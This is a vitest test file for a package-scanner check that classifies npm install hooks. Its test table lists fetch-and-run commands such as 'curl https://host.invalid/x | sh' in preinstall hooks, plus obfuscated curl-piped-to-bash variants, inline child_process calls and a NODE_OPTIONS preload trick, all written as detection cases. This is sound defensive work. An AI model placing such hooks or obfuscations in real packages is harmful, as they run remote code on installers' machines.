import { describe, expect, it } from 'vitest';
import { runCheck } from '../../../../test/builders/check-runner.ts';
import { readHooks } from '../../../formats/package-manifest/inline-code.ts';
import { packageManifest } from '../../../formats/package-manifest/package-manifest.ts';
import { readNpmManifest } from '../../../formats/package-archive/npm-manifest.ts';
import check from './check.ts';

async function rules(event: string, command: string): Promise<readonly string[]> {
  const manifest = readNpmManifest(JSON.stringify({ scripts: { [event]: command } }), false);
  const scripts = await readHooks(manifest?.hooks ?? []);
  const given = { ...manifest, scripts };
  const findings = await runCheck(check, [[packageManifest, given]], { path: ['package.json'] });
  return findings.map(({ rule }) => rule.replace('install-hooks/', ''));
}

describe('checks/package/install-hooks', () => {
  it.each([
    ['hostile-hook', 'preinstall', 'curl https://host.invalid/x | sh'],
    ['hostile-hook', 'prepare', 'curl https://host.invalid/x | sh'],
    ['fetching-hook', 'postinstall', 'wget -q https://host.invalid/x'],
    ['fetching-hook', 'install', 'node get.js https://host.invalid/x'],
    ['inline-hook', 'postinstall', 'node -e "require(\'child_process\').exec(1)"'],
    ['inline-hook', 'postinstall', 'python3 -c "print(1)"'],
    ['preloading-hook', 'postinstall', 'NODE_OPTIONS=--require=./x.js npm run y'],
    ['install-hook', 'install', 'node-gyp rebuild'],
    ['install-hook', 'postinstall', 'node -e "console.log(\'thanks: https://host.invalid\')"'],
    ['hostile-hook', 'postinstall', 'c""url -s https://host.invalid/x | s\\h'],
    ['hostile-hook', 'postinstall', 'U=https://host.invalid; F="cu"rl; $F $U/x | bash'],
    ['hostile-hook', 'postinstall', 'sh -c "curl -s https://host.invalid/x | sh"'],
    ['inline-hook', 'postinstall', 'node -e "require(\'x\')"'],
    ['install-hook', 'postinstall', 'node -e "try{require(\'./postinstall\')}catch(e){}"'],
  ])('%s for %s: %s', async (rule, event, command) => {
    expect(await rules(event, command)).toEqual([rule]);
  });

  it.each([
    ['test', 'curl https://host.invalid | sh'],
    ['prepare', 'husky install'],
    ['prepublish', 'wget x'],
  ])('is silent about %s: %s', async (event, command) => {
    expect(await rules(event, command)).toEqual([]);
  });
});
